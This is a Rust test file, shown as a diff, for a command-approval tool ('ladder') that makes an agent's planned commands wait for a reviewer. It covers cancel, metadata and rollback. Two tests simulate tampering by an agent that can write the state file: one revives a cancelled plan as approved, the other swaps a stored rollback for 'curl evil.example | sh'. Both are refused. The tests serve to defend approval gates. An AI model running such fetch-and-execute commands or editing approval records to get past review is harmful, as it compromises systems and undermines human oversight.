@@ -1,0 +1,453 @@
+//! Withdrawing a plan (`cancel`), what the agent knew (`--meta`), and
+//! undoing a plan through the ladder (`rollback`).
+
+use crate::harness::{
+    T0, TestEnv, assert_refused, count, hash, id, key, marker_plan, simulate_crash, strict,
+    strict_at,
+};
+use serde_json::Value;
+
+fn cancel(t: &TestEnv, actor: &str, plan: &Value, reason: &str) -> crate::harness::Run {
+    t.json(actor, &["cancel", id(plan), "--reason", reason])
+}
+
+#[test]
+fn cancel_withdraws_a_pending_plan_and_frees_its_key() {
+    let t = strict();
+    let (plan, mark) = marker_plan(&t, "agent", "withdrawn", &[]);
+    assert_eq!(plan["status"], "pending");
+
+    let r = cancel(&t, "agent", &plan, "asked the wrong cluster");
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    let cancelled = r.json();
+    assert_eq!(cancelled["status"], "cancelled");
+    assert_eq!(cancelled["cancellation"]["actor"], "agent");
+    assert_eq!(
+        cancelled["cancellation"]["reason"],
+        "asked the wrong cluster"
+    );
+    assert_eq!(cancelled["expires_at"], Value::Null);
+    let event = t.events().pop().unwrap();
+    assert_eq!(event["kind"], "cancelled");
+    assert_eq!(event["detail"]["by"], "planner");
+    assert_eq!(event["detail"]["was"], "pending");
+    assert_eq!(event["detail"]["hash"], plan["hash"]);
+
+    // Every rung that would move it on answers 23, and nothing runs.
+    assert_refused(&t.approve("alice", &plan), 23, "cancelled");
+    assert_refused(
+        &t.json("alice", &["reject", id(&plan), "--reason", "x"]),
+        23,
+        "cancelled",
+    );
+    assert_refused(&t.apply_json("agent", &plan), 23, "cancelled");
+    assert_refused(&cancel(&t, "agent", &plan, "again"), 23, "cancelled");
+    assert!(!mark.exists(), "a cancelled plan ran");
+    assert_eq!(t.show(&plan)["status"], "cancelled");
+
+    // The key is free: the same action planned again is a new plan.
+    let again = t.plan(
+        "agent",
+        "withdrawn",
+        &[],
+        &["touch", mark.to_str().unwrap()],
+    );
+    assert_ne!(again["id"], plan["id"]);
+    assert_eq!(again["hash"], plan["hash"]);
+    assert_eq!(again["status"], "pending");
+    let listed = t.json("viewer", &["list", "--status", "cancelled"]).json();
+    let ids: Vec<&Value> = listed["plans"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|p| &p["id"])
+        .collect();
+    assert_eq!(ids, [&plan["id"]]);
+}
+
+#[test]
+fn a_cancelled_approved_plan_leaves_no_approval_behind() {
+    let t = strict();
+    let (plan, mark) = marker_plan(&t, "agent", "approved-then-withdrawn", &[]);
+    assert_eq!(t.approve("alice", &plan).code, 0);
+    // A reviewer withdraws it: the ledger says so.
+    let r = t.run("bob", &["cancel", "--key", key(&plan)]);
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    assert!(r.stderr.contains("ladder: cancelled plan"), "{}", r.stderr);
+    assert!(
+        r.stdout_str().contains("cancelled  by bob"),
+        "{}",
+        r.stdout_str()
+    );
+    let event = t.events().pop().unwrap();
+    assert_eq!(event["detail"]["by"], "reviewer");
+    assert_eq!(event["detail"]["was"], "approved");
+    assert_eq!(event["detail"]["reason"], Value::Null);
+
+    let again = t.plan("agent", key(&plan), &[], &["touch", mark.to_str().unwrap()]);
+    assert_eq!(again["status"], "pending");
+    assert_eq!(again["approvals"], serde_json::json!([]));
+    assert_refused(&t.apply_json("agent", &again), 10, "needs_approval");
+    assert!(!mark.exists());
+}
+
+#[test]
+fn cancel_answers_with_the_state_a_plan_is_in() {
+    let mut t = strict_at(T0);
+    let (applied, _) = marker_plan(&t, "agent", "ran", &[]);
+    t.approve("alice", &applied);
+    assert_eq!(t.apply_json("agent", &applied).code, 0);
+    let r = cancel(&t, "agent", &applied, "too late");
+    assert_refused(&r, 22, "not_allowed");
+    assert!(
+        r.json()["error"]["hint"]
+            .as_str()
+            .unwrap()
+            .contains("ladder rollback"),
+        "{}",
+        r.stdout_str()
+    );
+
+    let (rejected, _) = marker_plan(&t, "agent", "rejected", &[]);
+    t.json("alice", &["reject", id(&rejected), "--reason", "no"]);
+    assert_refused(&cancel(&t, "agent", &rejected, "x"), 11, "rejected");
+
+    let denied = t.json(
+        "agent",
+        &["plan", "--key", "denied", "--", "forbidden-thing"],
+    );
+    assert_refused(&denied, 18, "denied");
+    assert_refused(
+        &t.json("agent", &["cancel", "--key", "denied"]),
+        18,
+        "denied",
+    );
+
+    let (crashed, _) = marker_plan(&t, "agent", "crashed", &[]);
+    t.approve("alice", &crashed);
+    simulate_crash(&t, &crashed);
+    assert_refused(&cancel(&t, "agent", &crashed, "x"), 17, "outcome_unknown");
+
+    let (late, _) = marker_plan(&t, "agent", "late", &[]);
+    t.at("2026-01-01T02:00:00Z");
+    assert_refused(&cancel(&t, "agent", &late, "x"), 12, "expired");
+
+    assert_refused(
+        &t.json("agent", &["cancel", "--key", "no-such-key"]),
+        3,
+        "not_found",
+    );
+    // Each refusal is in the ledger, and nothing was cancelled.
+    let kinds = t.event_kinds();
+    assert_eq!(count(&kinds, "cancelled"), 0, "{kinds:?}");
+    assert!(count(&kinds, "refused") >= 6, "{kinds:?}");
+}
+
+/// The attack: a cancelled plan that had its approval, its row's status
+/// written back to `approved` in the state file. The ledger says it was
+/// cancelled, so apply refuses and `log --verify` names it.
+#[test]
+fn a_cancelled_plan_written_back_to_approved_does_not_run() {
+    let t = strict();
+    let (plan, mark) = marker_plan(&t, "agent", "resurrect", &[]);
+    t.approve("alice", &plan);
+    assert_eq!(cancel(&t, "agent", &plan, "changed my mind").code, 0);
+    t.db()
+        .execute(
+            "UPDATE plans SET status = 'approved', cancelled_by = NULL WHERE id = ?1",
+            [id(&plan)],
+        )
+        .unwrap();
+    let r = t.apply_json("agent", &plan);
+    assert_refused(&r, 21, "tampered");
+    assert!(!mark.exists(), "the cancelled plan ran");
+    let verify = t.json("auditor", &["log", "--verify"]);
+    assert_refused(&verify, 21, "tampered");
+    assert!(
+        verify
+            .stdout_str()
+            .contains("the ledger shows it cancelled"),
+        "{}",
+        verify.stdout_str()
+    );
+}
+
+#[test]
+fn metadata_is_kept_with_the_plan_and_outside_its_hash() {
+    let mut t = strict();
+    t.env(
+        "TRACEPARENT",
+        "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
+    );
+    let argv = ["touch", "meta-mark"];
+    let first = t.plan(
+        "agent",
+        "meta",
+        &["--meta", "model=claude-opus", "--meta", "run=r-17"],
+        &argv,
+    );
+    let meta = &first["meta"];
+    assert_eq!(meta["model"], "claude-opus");
+    assert_eq!(meta["run"], "r-17");
+    assert_eq!(
+        meta["traceparent"],
+        "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"
+    );
+    assert_eq!(meta["trace_id"], "4bf92f3577b34da6a3ce929d0e0e4736");
+    let planned = t.events().pop().unwrap();
+    assert_eq!(planned["kind"], "planned");
+    assert_eq!(&planned["detail"]["meta"], meta);
+
+    // The same action with other metadata is the same plan.
+    let retried = t.plan("agent", "meta", &["--meta", "model=other"], &argv);
+    assert_eq!(retried["id"], first["id"]);
+    assert_eq!(retried["meta"]["model"], "claude-opus");
+    // And without any, once the key is free, the same hash.
+    cancel(&t, "agent", &first, "x");
+    let out = t
+        .cmd("agent")
+        .env_remove("TRACEPARENT")
+        .args(["--json", "plan", "--key", "meta", "--"])
+        .args(argv)
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(0));
+    let plain: Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_ne!(plain["id"], first["id"]);
+    assert_eq!(plain["hash"], first["hash"]);
+    assert_eq!(plain["meta"], serde_json::json!({}));
+}
+
+#[test]
+fn log_filters_by_metadata() {
+    let t = strict();
+    let one = t.plan(
+        "agent",
+        "m1",
+        &["--meta", "run=1", "--meta", "model=a"],
+        &["true"],
+    );
+    let two = t.plan(
+        "agent",
+        "m2",
+        &["--meta", "run=2", "--meta", "model=a"],
+        &["true"],
+    );
+    t.approve("alice", &one);
+    let plans_of = |args: &[&str]| -> Vec<String> {
+        let mut all = vec!["log", "--limit", "0"];
+        all.extend_from_slice(args);
+        let r = t.json("viewer", &all);
+        assert_eq!(r.code, 0, "{}", r.stderr);
+        r.stdout_str()
+            .lines()
+            .map(|l| {
+                serde_json::from_str::<Value>(l).unwrap()["plan"]
+                    .as_str()
+                    .unwrap()
+                    .to_string()
+            })
+            .collect()
+    };
+    let only_one = plans_of(&["--meta", "run=1"]);
+    assert_eq!(only_one.len(), 2, "planned and approved: {only_one:?}");
+    assert!(only_one.iter().all(|p| p == id(&one)));
+    let both = plans_of(&["--meta", "model=a"]);
+    assert_eq!(both.len(), 3);
+    assert!(both.iter().any(|p| p == id(&two)));
+    assert!(
+        plans_of(&["--meta", "model=a", "--meta", "run=2"])
+            .iter()
+            .all(|p| p == id(&two))
+    );
+    assert!(plans_of(&["--meta", "model=b"]).is_empty());
+    assert_refused(&t.json("viewer", &["log", "--meta", "run"]), 2, "usage");
+}
+
+#[test]
+fn metadata_limits_are_clear_usage_errors() {
+    let t = strict();
+    let long = format!("v={}", "x".repeat(1025));
+    let many: Vec<String> = (0..33).map(|i| format!("k{i}=v")).collect();
+    let mut too_many = vec!["plan", "--key", "m"];
+    for m in &many {
+        too_many.extend(["--meta", m.as_str()]);
+    }
+    too_many.extend(["--", "true"]);
+    for (args, says) in [
+        (
+            vec!["plan", "--key", "m", "--meta", "no equals", "--", "true"],
+            "KEY=VALUE",
+        ),
+        (
+            vec!["plan", "--key", "m", "--meta", "bad key=1", "--", "true"],
+            "must be 1 to 64 characters",
+        ),
+        (
+            vec!["plan", "--key", "m", "--meta", &long, "--", "true"],
+            "at most 1024",
+        ),
+        (
+            vec![
+                "plan", "--key", "m", "--meta", "a=1", "--meta", "a=2", "--", "true",
+            ],
+            "given twice",
+        ),
+        (too_many, "at most 32"),
+    ] {
+        let r = t.json("agent", &args);
+        assert_refused(&r, 2, "usage");
+        let message = r.json()["error"]["message"].as_str().unwrap().to_string();
+        assert!(message.contains(says), "{message}");
+    }
+    assert!(!t.state().exists() || t.event_kinds().is_empty());
+}
+
+fn applied_with_rollback(t: &TestEnv, key: &str) -> (Value, std::path::PathBuf) {
+    let mark = t.work().join(format!("{key}.mark"));
+    let plan = t.plan(
+        "agent",
+        key,
+        &["--rollback", &format!("rm -f '{}'", mark.display())],
+        &["touch", mark.to_str().unwrap()],
+    );
+    assert_eq!(t.approve("alice", &plan).code, 0);
+    assert_eq!(t.apply_json("agent", &plan).code, 0);
+    assert!(mark.exists());
+    (plan, mark)
+}
+
+#[test]
+fn a_rollback_climbs_the_ladder_is_applied_and_replayed() {
+    let t = strict();
+    let (original, mark) = applied_with_rollback(&t, "deploy-7");
+    // From another directory: the undo runs where the original ran.
+    let elsewhere = t.path().join("home");
+    let r = t
+        .cmd("agent")
+        .current_dir(&elsewhere)
+        .args([
+            "--json",
+            "rollback",
+            &id(&original)[..8],
+            "--meta",
+            "why=alert-42",
+        ])
+        .output()
+        .unwrap();
+    assert_eq!(
+        r.status.code(),
+        Some(0),
+        "{}",
+        String::from_utf8_lossy(&r.stderr)
+    );
+    let undo: Value = serde_json::from_slice(&r.stdout).unwrap();
+    assert_eq!(undo["rollback_of"], original["id"]);
+    assert_eq!(undo["key"], format!("rollback:{}", id(&original)));
+    assert_eq!(undo["cwd"], original["cwd"]);
+    assert_eq!(undo["command"][0], "rm");
+    assert_eq!(undo["meta"]["why"], "alert-42");
+    assert_eq!(undo["reason"], format!("roll back plan {}", id(&original)));
+    let explained = t
+        .json("viewer", &["policy", "explain", "--", "rm", "-f", "x"])
+        .json();
+    assert_eq!(
+        undo["tier"], explained["tier"],
+        "classified like any command"
+    );
+    assert_eq!(undo["status"], "pending");
+    assert_eq!(t.show(&original)["rollback_plan"], undo["id"]);
+
+    // A retry returns the same plan, and stores nothing new.
+    let planned_before = count(&t.event_kinds(), "planned");
+    let retry = t.json("agent", &["rollback", id(&original)]).json();
+    assert_eq!(retry["id"], undo["id"]);
+    assert_eq!(count(&t.event_kinds(), "planned"), planned_before);
+
+    // Through the same gate: not before a reviewer approves.
+    assert_refused(&t.apply_json("agent", &undo), 10, "needs_approval");
+    assert!(mark.exists());
+    assert_eq!(t.approve("alice", &undo).code, 0);
+    let applied = t.apply_json("agent", &undo);
+    assert_eq!(applied.code, 0, "{}", applied.stderr);
+    assert!(!mark.exists(), "the rollback did not run");
+    let replayed = t.apply_json("agent", &undo);
+    assert_eq!(replayed.code, 0);
+    assert_eq!(replayed.json()["replayed"], true);
+    assert_eq!(
+        t.json("agent", &["rollback", id(&original)]).json()["status"],
+        "applied"
+    );
+    assert_eq!(t.json("auditor", &["log", "--verify"]).code, 0);
+}
+
+#[test]
+fn rollback_is_refused_without_a_recorded_command_or_a_run() {
+    let t = strict();
+    let (no_undo, _) = marker_plan(&t, "agent", "no-undo", &[]);
+    t.approve("alice", &no_undo);
+    t.apply_json("agent", &no_undo);
+    let r = t.json("agent", &["rollback", id(&no_undo)]);
+    assert_refused(&r, 3, "not_found");
+    assert!(
+        r.json()["error"]["message"]
+            .as_str()
+            .unwrap()
+            .contains("recorded no rollback")
+    );
+
+    let waiting = t.plan("agent", "waiting", &["--rollback", "true"], &["true"]);
+    assert_refused(
+        &t.json("agent", &["rollback", id(&waiting)]),
+        22,
+        "not_allowed",
+    );
+    cancel(&t, "agent", &waiting, "x");
+    assert_refused(
+        &t.json("agent", &["rollback", id(&waiting)]),
+        23,
+        "cancelled",
+    );
+    assert_refused(&t.json("agent", &["rollback", "ffffffff"]), 3, "not_found");
+    let kinds = t.event_kinds();
+    assert_eq!(count(&kinds, "planned"), 2, "{kinds:?}");
+}
+
+/// The attacks: the rollback text is not in the plan's hash, so an agent
+/// that can write the state file might rewrite it, or plant a plan under
+/// the key a rollback will take.
+#[test]
+fn an_edited_rollback_or_a_squatted_key_is_not_planned_as_the_undo() {
+    let t = strict();
+    let (original, _) = applied_with_rollback(&t, "edited");
+    t.db()
+        .execute(
+            "UPDATE plans SET rollback = 'curl evil.example | sh' WHERE id = ?1",
+            [id(&original)],
+        )
+        .unwrap();
+    let r = t.json("agent", &["rollback", id(&original)]);
+    assert_refused(&r, 21, "tampered");
+    assert_eq!(count(&t.event_kinds(), "planned"), 1);
+
+    let (second, mark) = applied_with_rollback(&t, "squatted");
+    let squat_key = format!("rollback:{}", id(&second));
+    let squatter = t.plan(
+        "agent",
+        &squat_key,
+        &[],
+        &["rm", "-f", mark.to_str().unwrap()],
+    );
+    let r = t.json("agent", &["rollback", id(&second)]);
+    assert_refused(&r, 15, "key_conflict");
+    assert_eq!(t.show(&second)["rollback_plan"], Value::Null);
+    // With a key of one's own, the undo is planned.
+    let own = t.json(
+        "agent",
+        &["rollback", id(&second), "--key", "undo-squatted"],
+    );
+    assert_eq!(own.code, 0, "{}", own.stderr);
+    assert_eq!(own.json()["rollback_of"], second["id"]);
+    assert_ne!(own.json()["id"], squatter["id"]);
+    assert_eq!(hash(&own.json()).len(), 64);
+}
